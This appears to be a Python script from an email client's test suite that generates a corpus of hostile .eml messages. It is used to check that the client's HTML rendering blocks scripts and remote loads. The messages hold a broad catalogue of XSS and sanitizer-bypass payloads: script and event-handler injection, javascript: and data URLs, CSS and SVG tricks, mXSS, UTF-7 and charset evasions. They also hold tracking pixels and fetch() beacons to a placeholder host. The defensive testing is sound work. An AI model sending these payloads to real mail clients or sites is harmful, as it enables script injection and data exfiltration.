# ruff: noqa: E501  (the corpus is data: one attack a line reads best)
"""Writes the hostile corpus (python tests/ui/hostile/make_corpus.py): one trick per message,
and two kitchen sinks. BEACON_ORIGIN and BEACON_HOST are replaced by the test's beacon."""

import base64
from pathlib import Path

OUT = Path(__file__).resolve().parent
B = "BEACON_ORIGIN"
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f0005000200e2b3a1f90000000049454e44ae426082"
    )
).decode()


def js(tag: str) -> str:
    return f"fetch('{B}/js?{tag}');alert('{tag}');location='{B}/js?{tag}-nav'"


def mail(name: str, subject: str, html: str, charset: str = "utf-8", cte: str = "8bit") -> None:
    head = (
        f"From: Mallory <mallory@hostile.example>\r\nTo: victim@example.cn\r\n"
        f"Subject: hostile {subject}\r\nMessage-ID: <hostile-{name}@hostile.example>\r\n"
        f"Date: Mon, 3 Jun 2024 10:00:00 +0800\r\nMIME-Version: 1.0\r\n"
    )
    body = html.encode(charset) if charset != "utf-7" else html.encode("ascii")
    multipart = (
        'Content-Type: multipart/alternative; boundary="ALT"\r\n\r\n'
        "--ALT\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        f"hostile {subject} (plain part)\r\n"
        f"--ALT\r\nContent-Type: text/html; charset={charset}\r\n"
        f"Content-Transfer-Encoding: {cte}\r\n\r\n"
    ).encode()
    raw = head.encode() + multipart + body + b"\r\n--ALT--\r\n"
    (OUT / f"{name}.eml").write_bytes(raw)


P = {
    "01-script": f"<p>script tags</p><script>{js('script')}</script><script src='{B}/js?script-src'></script>"
    f"<SCRIPT>{js('script-upper')}</SCRIPT><scr<script>ipt>{js('script-split')}</script>",
    "02-handlers": f'<body onload="{js("body-onload")}"><img src=x onerror="{js("onerror")}">'
    f'<div onmouseover="{js("onmouseover")}" onclick="{js("onclick")}">hover me</div>'
    f'<input autofocus onfocus="{js("onfocus")}"><details open ontoggle="{js("ontoggle")}"><summary>s</summary></details></body>',
    "03-javascript-href": f'<a href="javascript:{js("js-href")}">click</a> '
    f'<a href="JaVaScRiPt:{js("js-href-case")}">case</a> '
    f'<a href="jav&#x09;ascript:{js("js-href-tab")}">tab</a> '
    f'<a href="&#106;avascript:{js("js-href-entity")}">entity</a> '
    f'<a href=" javascript:{js("js-href-space")}">space</a>',
    "04-data-urls": '<iframe src="data:text/html,&lt;script&gt;'
    + js("data-iframe")
    + '&lt;/script&gt;"></iframe>'
    '<a href="data:text/html;base64,'
    + base64.b64encode(f"<script>{js('data-href')}</script>".encode()).decode()
    + '">data link</a>'
    f'<iframe srcdoc="&lt;script&gt;{js("srcdoc")}&lt;/script&gt;"></iframe>'
    f'<img src="data:image/svg+xml;base64,'
    + base64.b64encode(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js('data-svg')}\"/>".encode()
    ).decode()
    + '">',
    "05-svg": f'<svg onload="{js("svg-onload")}"><script>{js("svg-script")}</script>'
    f'<image href="{B}/res?svg-image"/><a xlink:href="javascript:{js("svg-a")}"><text>x</text></a>'
    f'<animate attributeName=href to="javascript:{js("svg-animate")}"/><foreignObject><img src=x onerror="{js("svg-fo")}"></foreignObject></svg>',
    "06-object-embed": f'<object data="{B}/res?object" type=text/html></object><embed src="{B}/res?embed">'
    f'<applet code="{B}/res?applet"></applet><iframe src="{B}/res?iframe"></iframe><frameset><frame src="{B}/res?frame"></frameset>',
    "07-css": f"<style>@import url({B}/res?import); @import '{B}/res?import2'; body{{background:url({B}/res?style-bg)}}"
    f"@font-face{{font-family:x;src:url({B}/res?font)}} p{{font-family:x}}</style>"
    f'<div style="background-image:url({B}/res?inline-bg); width:expression({js("expression")})">css</div>'
    f'<div style="background:u\\72l({B}/res?escaped-url)">escaped</div>'
    f"<div style=\"list-style-image:url('{B}/res?list'); cursor:url({B}/res?cursor),auto; border-image:url({B}/res?border) 30\">more</div>"
    f'<p style="color:red;behavior:url({B}/res?htc);-moz-binding:url({B}/res?xbl)">red</p>',
    "08-meta-refresh": f'<html><head><meta http-equiv="refresh" content="0;url={B}/js?meta-refresh">'
    f'<meta http-equiv="Content-Security-Policy" content="default-src *"></head><body><p>refresh</p></body></html>',
    "09-base-href": f'<html><head><base href="{B}/"></head><body><img src="res?base-relative"><a href="res?base-link">rel</a>'
    f'<img src="//BEACON_HOST/res?protocol-relative"></body></html>',
    "10-remote-img": f'<p>tracking pixel</p><img src="{B}/res?img-remote" width=1 height=1>',
    "11-srcset": f'<img srcset="{B}/res?srcset 1x, {B}/res?srcset2 2x"><picture><source srcset="{B}/res?source"><img src="{B}/res?img-picture"></picture>',
    "12-background-attr": f'<table background="{B}/res?bg-table"><tr><td background="{B}/res?bg-td">cell</td></tr></table>'
    f'<body background="{B}/res?bg-body">',
    "13-form": f'<form action="{B}/res?form" method=post><input name=q value=secret><input type=image src="{B}/res?input-image">'
    f'<button type=submit formaction="{B}/res?formaction">Send</button><textarea>t</textarea><select><option>o</option></select></form>'
    f'<isindex action="{B}/res?isindex">',
    "14-link": f'<html><head><link rel=stylesheet href="{B}/res?link-css"><link rel=prefetch href="{B}/res?prefetch">'
    f'<link rel=preload as=image href="{B}/res?preload"><link rel=dns-prefetch href="{B}"><link rel=icon href="{B}/res?icon"></head><body>links</body></html>',
    "15-media": f'<video poster="{B}/res?poster" src="{B}/res?video"></video><audio src="{B}/res?audio" autoplay></audio>'
    f'<video><source src="{B}/res?video-source"><track src="{B}/res?track"></video>',
    "16-ping": f'<a href="{B}/res?ping-href" ping="{B}/res?ping">ping</a><area href="{B}/res?area" ping="{B}/res?area-ping">',
    "17-mxss": f'<noscript><p title="</noscript><img src=x onerror={js("noscript-mxss")}>"></noscript>'
    f'<math><mtext><table><mglyph><style><img src=x onerror="{js("math-mxss")}"></style></mglyph></table></mtext></math>'
    f'<template><script>{js("template")}</script></template><xmp><img src=x onerror="{js("xmp")}"></xmp>'
    f'<!--<img src=x onerror="{js("comment")}">--><![CDATA[<script>{js("cdata")}</script>]]>',
}
for name, html in P.items():
    mail(name, name, html)

# mislabelled: UTF-7 (a decoder that honours it makes <script> out of +ADw-)
mail(
    "18-utf7",
    "utf7",
    f'+ADw-script+AD4-{js("utf7")}+ADw-/script+AD4- <p>utf-7</p><img src="{B}/res?img-utf7">',
    charset="utf-7",
)
# mislabelled: declared latin-1, UTF-8 Chinese bytes, with handlers
mail(
    "19-mislabelled",
    "mislabelled",
    f'<p>合同审批：请查收</p><img src=x onerror="{js("mislabelled")}"><script>{js("mislabelled-script")}</script>',
    charset="utf-8",
)
raw = (
    (OUT / "19-mislabelled.eml")
    .read_bytes()
    .replace(
        b"Content-Type: text/html; charset=utf-8", b"Content-Type: text/html; charset=iso-8859-1"
    )
)
(OUT / "19-mislabelled.eml").write_bytes(raw)
# GBK Chinese
mail(
    "20-gbk",
    "gbk",
    f'<p>供应商合同已更新，请审阅附件。</p><img src="{B}/res?img-gbk" onerror="{js("gbk")}"><script>{js("gbk-script")}</script>',
    charset="gbk",
    cte="8bit",
)

# nested: mixed > alternative > related (html with cid image + script), and an attached message
nested_html = (
    f'<p>nested body</p><img src="cid:logo@hostile"><img src="cid:missing@hostile">'
    f"<script>{js('nested')}</script>"
)
attached = (
    f'Subject: inner\r\nContent-Type: text/html\r\n\r\n<p>inner</p><img src="{B}/res?attached-inner">'
    f"<script>{js('attached')}</script>\r\n"
)
nested = (
    "From: Mallory <mallory@hostile.example>\r\nTo: victim@example.cn\r\nSubject: hostile nested\r\n"
    "Message-ID: <hostile-21-nested@hostile.example>\r\nDate: Mon, 3 Jun 2024 10:00:00 +0800\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="MIX"\r\n\r\n'
    '--MIX\r\nContent-Type: multipart/alternative; boundary="ALT"\r\n\r\n'
    "--ALT\r\nContent-Type: text/plain\r\n\r\nnested plain\r\n"
    '--ALT\r\nContent-Type: multipart/related; boundary="REL"\r\n\r\n'
    f"--REL\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{nested_html}\r\n"
    f"--REL\r\nContent-Type: image/png\r\nContent-ID: <logo@hostile>\r\nContent-Transfer-Encoding: base64\r\n\r\n{PNG}\r\n"
    "--REL--\r\n--ALT--\r\n"
    f"--MIX\r\nContent-Type: message/rfc822\r\n\r\n{attached}"
    f"--MIX\r\nContent-Type: text/html; name=evil.html\r\nContent-Disposition: attachment; filename=evil.html\r\n\r\n<script>{js('attachment')}</script>\r\n"
    "--MIX--\r\n"
)
(OUT / "21-nested.eml").write_bytes(nested.encode())

# kitchen sink: every trick in one body, quoted-printable
sink = "".join(P.values())
mail("22-kitchen-sink", "kitchen sink", sink)
# the same, base64 and a different label casing
qp = sink.replace("=", "=3D")
sink_raw = (
    "From: Mallory <mallory@hostile.example>\r\nTo: victim@example.cn\r\nSubject: hostile quoted-printable sink\r\n"
    "Message-ID: <hostile-23@hostile.example>\r\nDate: Mon, 3 Jun 2024 10:00:00 +0800\r\nMIME-Version: 1.0\r\n"
    'Content-Type: TEXT/HTML; Charset="UTF-8"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n'
    + qp
)
(OUT / "23-kitchen-sink-qp.eml").write_bytes(sink_raw.encode())
